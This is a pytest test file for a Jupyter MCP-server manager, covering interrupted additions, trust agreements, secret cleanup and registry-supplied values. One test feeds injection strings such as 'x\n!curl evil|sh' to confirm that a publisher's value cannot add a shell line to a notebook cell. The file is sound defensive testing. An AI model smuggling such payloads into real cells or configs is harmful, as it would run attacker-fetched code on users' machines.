"""Adding servers: the state after an interrupt, a failure or a change in between."""

import asyncio
import contextlib
import json
import os
import sys
from collections.abc import Callable, Generator, Iterator, Mapping
from concurrent.futures import wait
from pathlib import Path
from typing import Any

import psutil
import pytest

from ipymcp.config.definition import Source
from ipymcp.config.paths import user_file
from ipymcp.errors import ConfigError, McpError, PolicyError, TrustError, UnknownName
from ipymcp.interaction.elicitation import InputQuestion
from ipymcp.interaction.questions import PageReply, TrustQuestion
from ipymcp.runtime.host import Host
from ipymcp.security.trust import Grant
from ipymcp.security.untrusted import Actor, Conversation, acting
from ipymcp.setup import config_edits
from ipymcp.setup.adding import RegistryChoice, from_registry, from_values
from ipymcp.setup.addition import Addition, add
from ipymcp.setup.registry_tables import outdated
from tests.environments import ROOT, server_command
from tests.processes import wait_until, wait_until_gone
from tests.registry import RegistryServer, registry_server
from tests.unit.scripted_interface import ScriptedInterface

pytestmark = pytest.mark.posix
DEMO = {"command": server_command("demo")[0], "args": server_command("demo")[1:]}
SILENT: dict[str, Any] = {"command": sys.executable, "args": ["-c", "import sys; sys.stdin.read()"]}
"""A server that never answers."""


@pytest.fixture
def host(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Host]:
    (tmp_path / "p" / ".git").mkdir(parents=True)
    monkeypatch.setenv("HOME", str(tmp_path))
    monkeypatch.setenv("JUPYTER_CONFIG_DIR", str(tmp_path / "config"))
    host = Host(str(tmp_path / "p"))
    yield host
    host.close()


def own(host: Host) -> dict[str, Any]:
    """The servers in the user's own file."""
    file = Path(user_file())
    return json.loads(file.read_text())["mcpServers"] if file.exists() else {}


def projects(host: Host, name: str, **values: Any) -> None:
    """Write a server into the project's file, as its author does."""
    Path(host.folder, "mcp.json").write_text(json.dumps({"mcpServers": {name: {**DEMO, **values}}}))


def defined(host: Host, values: Mapping[str, Any], keep: Any = "me", **options: Any) -> Addition:
    return host.loop.run(from_values(host, "mine", values, keep, **options))


def started() -> psutil.Process:
    """The process of the silent server, once it has started."""
    wait_until(lambda: bool(children()))
    [process] = children()
    return process


def children() -> list[psutil.Process]:
    return [child for child in psutil.Process().children() if child.cmdline()[1:] == SILENT["args"]]


def test_an_interrupted_trial_leaves_no_process_and_no_permission(host: Host) -> None:
    addition = defined(host, SILENT)
    running = asyncio.run_coroutine_threadsafe(add(addition), host.loop.loop)
    process = started()
    assert [session.name for session in host.trials.sessions] == ["mine"]
    running.cancel()
    wait([running])
    wait_until(lambda: not host.trials.sessions)
    wait_until_gone([process])
    assert own(host) == {}


def test_a_trial_that_is_dropped_while_it_starts_leaves_no_process(host: Host) -> None:
    addition = defined(host, SILENT)
    running = asyncio.run_coroutine_threadsafe(addition.try_out(), host.loop.loop)
    process = started()
    host.loop.run(addition.drop())
    wait([running])
    wait_until_gone([process])
    assert host.trials.sessions == ()


def test_a_failed_trial_leaves_no_permission(host: Host) -> None:
    broken = {"command": sys.executable, "args": ["-c", "raise SystemExit(1)"]}
    addition = defined(host, broken, "project")
    host.loop.run(addition.try_out())
    host.loop.run(addition.drop())
    assert not host.guard.trusts(addition.definition)


@contextlib.contextmanager
def locked(folder: Path) -> Generator[None]:
    """Hold the lock of a folder as another kernel that writes there."""
    import fcntl

    folder.mkdir(parents=True, exist_ok=True)
    descriptor = os.open(folder, os.O_RDONLY)
    try:
        fcntl.flock(descriptor, fcntl.LOCK_EX)
        yield
    finally:
        os.close(descriptor)


def test_a_save_that_is_interrupted_goes_on_to_its_end(host: Host) -> None:
    addition = defined(host, DEMO)
    with locked(Path(user_file()).parent):
        running = asyncio.run_coroutine_threadsafe(add(addition), host.loop.loop)
        wait_until(lambda: addition.session is not None and addition.session.client is not None)
        with pytest.raises(TimeoutError):
            running.result(0.3)
        running.cancel()
    wait_until(lambda: not host.trials.sessions)
    assert list(own(host)) == ["mine"]
    assert host.sessions["mine"].client is not None


def test_a_save_that_fails_leaves_nothing(host: Host) -> None:
    addition = defined(host, DEMO)
    config_edits.add("mine", DEMO, host, project=False)
    with pytest.raises(ConfigError, match="mine is there already"):
        host.loop.run(add(addition))
    assert host.trials.sessions == ()
    assert host.sessions == {}


def test_many_servers_are_saved_at_a_time(host: Host) -> None:
    async def save_all() -> None:
        additions = [await from_values(host, f"s{number}", DEMO, "me") for number in range(8)]
        async with asyncio.timeout(20):
            await asyncio.gather(
                *(config_edits.save(each.definition, Grant(), host, replaces=False) for each in additions)
            )

    host.loop.run(save_all())
    assert len(own(host)) == 8


def test_a_script_that_changed_after_the_answer_is_neither_run_nor_written(host: Host) -> None:
    script = Path(host.folder, "server.py")
    script.write_text("pass")
    addition = defined(host, {"command": sys.executable, "args": ["server.py"]}, "project")
    agreed = Grant(digest=host.loop.run(host.guard.trust.digest(addition.definition)))
    script.write_text("import evil")
    with pytest.raises(TrustError, match="has changed since you agreed to it"):
        host.loop.run(host.trials.run(addition.definition, agreed))
    with pytest.raises(TrustError, match="has changed since you agreed to it"):
        host.loop.run(config_edits.save(addition.definition, agreed, host, replaces=False))
    assert not Path(host.folder, "mcp.json").exists()


# Copies and edits


def test_a_copy_of_a_server_without_an_agreement_may_not_run(host: Host) -> None:
    projects(host, "theirs")
    config_edits.copy("theirs", "copied", host)
    assert not host.guard.trusts(host.discovery.read().definitions["copied"])


def test_a_copy_of_a_changed_entry_of_the_own_file_may_not_run(host: Host) -> None:
    config_edits.add("mine", DEMO, host, project=False)
    file = Path(user_file())
    file.write_text(file.read_text().replace('"command"', '"env": {"A": "b"},\n      "command"'))
    assert not host.guard.trusts(host.discovery.read().definitions["mine"])
    config_edits.copy("mine", "copied", host)
    assert not host.guard.trusts(host.discovery.read().definitions["copied"])


def test_an_unchanged_edit_of_a_projects_server_is_not_an_agreement(host: Host) -> None:
    projects(host, "theirs", env={"TOKEN": "${secret:mine}"})
    shown = json.loads(config_edits.editable_text("theirs", host))
    config_edits.rewrite("theirs", shown, host)
    assert not host.guard.trusts(host.discovery.read().definitions["theirs"])
    assert host.loop.run(host.guard.trust.agreements()) == []


EDITS: dict[str, Callable[[Host], object]] = {
    "add": lambda host: config_edits.add("evil", DEMO, host, project=False),
    "rewrite": lambda host: config_edits.rewrite("mine", DEMO, host),
    "copy": lambda host: config_edits.copy("mine", "evil", host),
    "update": lambda host: config_edits.update("mine", {"timeout": 5}, host, project=False),
    "remove": lambda host: config_edits.remove("mine", host, project=False),
    "import": lambda host: config_edits.import_from(f"{host.folder}/x.json", [], host, project=False, replace=False),
}


@pytest.mark.parametrize("edit", EDITS.values(), ids=EDITS)
def test_a_models_code_may_not_change_the_configuration(host: Host, edit: Callable[[Host], object]) -> None:
    config_edits.add("mine", DEMO, host, project=False)
    Path(host.folder, "x.json").write_text(json.dumps({"mcpServers": {"evil": DEMO}}))
    before = own(host)
    with (
        acting(Actor("model", Conversation())),
        pytest.raises(PolicyError, match="may not change the configuration"),
    ):
        edit(host)
    assert own(host) == before


def test_a_server_added_without_a_lasting_agreement_needs_one_in_another_kernel(host: Host) -> None:
    definition = defined(host, DEMO).definition
    host.loop.run(config_edits.save(definition, Grant(is_lasting=False), host, replaces=False))
    assert host.guard.trusts(definition)
    with contextlib.closing(Host(host.folder)) as other:
        assert not other.guard.trusts(definition)


def test_an_unchanged_edit_of_a_projects_server_in_a_view_is_not_an_agreement(host: Host) -> None:
    projects(host, "mine", env={"TOKEN": "${secret:own}"})
    with pytest.raises(TrustError, match="no one could be asked"):
        defined(host, {**DEMO, "env": {"TOKEN": "${secret:own}"}}, "project", replaces=True)


def test_secrets_of_a_definition_that_is_refused_are_deleted(host: Host) -> None:
    projects(host, "mine")
    with pytest.raises(TrustError):
        defined(host, {**DEMO, "env": {"API_KEY": "abcdefgh12345678"}}, "project", replaces=True)
    assert host.store.secrets.kept() == []


def test_a_server_is_removed_with_the_secrets_that_only_it_uses(host: Host) -> None:
    addition = defined(host, {**DEMO, "env": {"API_KEY": "abcdefgh12345678", "TOKEN": "hgfedcba87654321"}})
    host.loop.run(addition.save())
    host.store.secrets.set("gh", "a secret of mine")
    config_edits.add("other", {**DEMO, "env": {"T": "${secret:mine-TOKEN}", "G": "${secret:gh}"}}, host, project=False)
    config_edits.update("mine", {"env.G": "${secret:gh}"}, host, project=False)
    assert config_edits.remove("mine", host, project=False).secrets == ("mine-API_KEY",)
    assert [secret.name for secret in host.store.secrets.kept()] == ["gh", "mine-TOKEN"]
    assert config_edits.remove("other", host, project=False).secrets == ()
    assert [secret.name for secret in host.store.secrets.kept()] == ["gh", "mine-TOKEN"]


def test_a_secret_that_another_project_was_given_or_an_unreadable_file_may_use_is_not_removed(host: Host) -> None:
    addition = defined(host, {**DEMO, "env": {"API_KEY": "abcdefgh12345678"}})
    host.loop.run(addition.save())
    elsewhere = Source(scope="project", file="/elsewhere/mcp.json", folder="/elsewhere")
    theirs = addition.definition.replace(name="theirs", source=elsewhere)
    host.loop.run(host.guard.trust.carry_over(Grant(frozenset({"mine-API_KEY"})), theirs))
    assert config_edits.remove("mine", host, project=False).secrets == ()
    config_edits.add("mine", {**DEMO, "env": {"LEVEL": "${secret:mine-API_KEY}"}}, host, project=False)
    host.loop.run(host.guard.trust.revoke("theirs"))
    projects(host, "broken", args=5)
    assert config_edits.remove("mine", host, project=False).secrets == ()
    assert [secret.name for secret in host.store.secrets.kept()] == ["mine-API_KEY"]


# Servers of the registry

EVIL = "io.github.evil/thing"


@pytest.fixture
def registry(host: Host, monkeypatch: pytest.MonkeyPatch) -> Iterator[RegistryServer]:
    monkeypatch.setenv("PATH", f"{ROOT / '.venv/bin'}:/usr/bin:/bin")
    with registry_server() as served:
        host.registry_address = served.address
        yield served


def listed(registry: RegistryServer, name: str = EVIL, version: str = "1.0.0", **package: Any) -> None:
    """List a server in the registry."""
    values = {"registryType": "pypi", "identifier": "thing", "version": version, "transport": {"type": "stdio"}}
    official = {"status": "active", "isLatest": True}
    registry.entries.append(
        {
            "server": {"name": name, "description": "", "version": version, "packages": [{**values, **package}]},
            "_meta": {"io.modelcontextprotocol.registry/official": official},
        }
    )


def user(host: Host, **content: Any) -> ScriptedInterface:
    """A user who agrees to everything, and gives these values."""
    interface = ScriptedInterface(PageReply("accept", content, servers=frozenset({"thing", "thing_2"})))
    host.questions.terminal = lambda: interface
    return interface


def chosen(host: Host, keep: Any = "me", *, replaces: bool = False, **choice: Any) -> Addition:
    values: dict[str, Any] = {"name": EVIL, **choice}
    return host.loop.run(from_registry(host, RegistryChoice(**values), keep, replaces=replaces))


@pytest.mark.parametrize("value", ["x\n!curl evil|sh\n#", "x\x0c!id", "x\u2028!id", "x\x85!id"])
def test_a_publishers_value_adds_no_line_to_a_cell(host: Host, registry: RegistryServer, value: str) -> None:
    listed(registry, packageArguments=[{"type": "positional", "value": value}])
    user(host)
    cell = chosen(host, "notebook").cell("mcp")
    assert not any(line.startswith(("!", "%")) for line in cell.splitlines())
    compile(cell, "cell", "exec")


def test_a_required_value_is_asked_for_although_its_publisher_suggests_one(
    host: Host, registry: RegistryServer
) -> None:
    listed(registry, environmentVariables=[{"name": "FOLDER", "default": "/Users/me", "isRequired": True}])
    with pytest.raises(ConfigError, match="needs FOLDER, and no one could be asked"):
        chosen(host)
    user(host, FOLDER="/data")
    assert chosen(host).definition.env["FOLDER"] == "/data"


def test_a_default_that_is_accepted_stays_the_publishers_text(host: Host, registry: RegistryServer) -> None:
    host.store.secrets.set("gh", "a secret of mine")
    default = "data/${secret:gh}"
    variable = {"name": "FOLDER", "format": "filepath", "default": default, "isRequired": True}
    listed(registry, environmentVariables=[variable])
    for given in (default, f"{default}/", f" {default}"):
        user(host, FOLDER=given)
        try:
            env = chosen(host, asks_all=True).definition.env
        except ConfigError:  # refused as a whole
            continue
        assert env["FOLDER"] == "data/$${secret:gh}"


def test_the_publishers_text_cannot_turn_typed_text_into_a_variable(host: Host, registry: RegistryServer) -> None:
    host.store.secrets.set("gh", "a secret of mine")
    value = {"value": "{cur}{secret:gh}", "variables": {"cur": {"isRequired": True}}}
    listed(registry, environmentVariables=[{"name": "PRICE", **value}])
    user(host)
    with pytest.raises(ConfigError):
        chosen(host, inputs={"cur": "$"})


def test_the_users_own_variables_are_kept(host: Host, registry: RegistryServer) -> None:
    host.store.secrets.set("gh", "a secret of mine")
    listed(registry, environmentVariables=[{"name": "TOKEN", "isRequired": True, "isSecret": True}])
    user(host)
    assert chosen(host, inputs={"TOKEN": "${secret:gh}"}).definition.env == {"TOKEN": "${secret:gh}"}


def test_a_secret_in_a_value_that_is_not_called_one_is_stored(host: Host, registry: RegistryServer) -> None:
    listed(registry, packageArguments=[{"type": "named", "name": "--db", "isRequired": True}])
    user(host)
    addition = chosen(host, inputs={"db": "pg://me:pass1word@db/x"})
    assert addition.definition.args == ("thing@1.0.0", "--db=pg://me:${secret:thing-password}@db/x")
    assert host.store.secrets.get("thing-password") == "pass1word"
    host.loop.run(addition.drop())
    assert host.store.secrets.kept() == []


def test_another_publisher_gets_no_values_of_the_server_it_replaces(host: Host, registry: RegistryServer) -> None:
    config_edits.add("thing", {**DEMO, "env": {"TOKEN": "${secret:gh}"}}, host, project=False)
    listed(registry, environmentVariables=[{"name": "TOKEN"}])
    user(host)
    assert chosen(host, replaces=True).definition.env == {}


def test_a_projects_file_that_claims_an_origin_gets_no_secret(host: Host, registry: RegistryServer) -> None:
    host.store.secrets.set("gh", "a secret of mine")
    projects(host, "thing", env={"TOKEN": "${secret:gh}"}, registry={"name": EVIL, "version": "0.9.0"})
    listed(registry, environmentVariables=[{"name": "TOKEN"}])
    user(host)
    for keep in ("me", "project"):
        assert chosen(host, keep, replaces=True).definition.env == {}
    [row] = host.loop.run(outdated(host))
    assert row["remark"] == "not compared: you have not agreed that it may run"


def test_a_newer_version_of_the_same_server_keeps_its_values(host: Host, registry: RegistryServer) -> None:
    origin = {"registry": {"name": EVIL, "version": "0.9.0"}}
    config_edits.add("thing", {**DEMO, "env": {"TOKEN": "${secret:gh}"}, **origin}, host, project=False)
    listed(registry, environmentVariables=[{"name": "TOKEN"}])
    user(host)
    assert chosen(host, replaces=True).definition.env == {"TOKEN": "${secret:gh}"}


def test_the_publisher_is_named_before_a_secret_is_given(host: Host, registry: RegistryServer) -> None:
    listed(registry, environmentVariables=[{"name": "TOKEN", "isRequired": True, "isSecret": True}])
    asked = user(host, TOKEN="a secret of mine").asked
    chosen(host)
    origin = f"{EVIL} 1.0.0 of {registry.address.removeprefix('http://')} (publisher not verified)"
    inputs, trust = asked
    assert isinstance(inputs, InputQuestion)
    assert inputs.message.startswith(origin)
    assert isinstance(trust, TrustQuestion)
    assert trust.file == origin


def test_the_question_names_the_files_of_the_notebooks_folder_that_decide(
    host: Host, registry: RegistryServer, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    npx = tmp_path / "bin" / "npx"
    npx.parent.mkdir()
    npx.write_text("")
    npx.chmod(0o755)
    monkeypatch.setenv("PATH", f"{npx.parent}:{os.environ['PATH']}")
    listed(registry, registryType="npm")
    asked = user(host).asked
    chosen(host, "notebook")
    [trust] = asked
    assert isinstance(trust, TrustQuestion)
    assert any("package.json in this folder first" in line for line in trust.candidates[0].dangers)


def test_a_secret_that_cannot_be_stored_leaves_no_other_one(host: Host, registry: RegistryServer) -> None:
    names = [{"name": name, "isRequired": True, "isSecret": True} for name in ("FIRST", "SECOND")]
    listed(registry, environmentVariables=names)
    user(host)
    with pytest.raises(UnicodeError):
        chosen(host, inputs={"FIRST": "a secret of mine", "SECOND": "\ud800"})
    assert host.store.secrets.kept() == []


def test_an_interrupted_question_deletes_its_stored_secret(host: Host, registry: RegistryServer) -> None:
    listed(registry, environmentVariables=[{"name": "TOKEN", "isRequired": True, "isSecret": True}])
    host.questions.terminal = None
    with pytest.raises(TrustError):
        chosen(host, inputs={"TOKEN": "a secret of mine"})
    assert host.store.secrets.kept() == []


def test_a_version_that_was_deleted_meanwhile_is_not_added_from_the_cache(host: Host, registry: RegistryServer) -> None:
    listed(registry)
    user(host)
    chosen(host, name="thing")
    registry.entries[-1]["_meta"]["io.modelcontextprotocol.registry/official"]["status"] = "deleted"
    for name in (EVIL, "thing"):
        with pytest.raises(ConfigError, match="was deleted"):
            chosen(host, name=name)
    registry.status = 503
    with pytest.raises(McpError, match="cannot be reached"):
        chosen(host, name="thing")


def test_another_version_than_the_wanted_one_is_refused(host: Host, registry: RegistryServer) -> None:
    listed(registry)
    registry.body = json.dumps(registry.entries[-1]).encode()
    with pytest.raises(McpError, match=r"it sent io.github.evil/thing 1"):
        chosen(host, version="2.0.0")


def test_a_short_name_is_not_resolved_on_the_first_of_many_results(host: Host, registry: RegistryServer) -> None:
    registry.page = 1
    for number in range(9):
        listed(registry, f"io.github.a{number}/thing{number or ''}")
    with pytest.raises(UnknownName, match="has more servers like 'thing' than were searched"):
        chosen(host, name="thing")


def test_a_required_value_may_not_be_empty(host: Host, registry: RegistryServer) -> None:
    listed(registry, environmentVariables=[{"name": "TOKEN", "isRequired": True, "isSecret": True}])
    user(host)
    with pytest.raises(ConfigError, match="requires TOKEN, which is empty"):
        chosen(host, inputs={"TOKEN": ""})


def test_a_name_that_another_file_defines_is_taken(host: Host, registry: RegistryServer) -> None:
    projects(host, "thing")
    listed(registry)
    user(host)
    assert chosen(host, alias=None).definition.name == "thing_2"
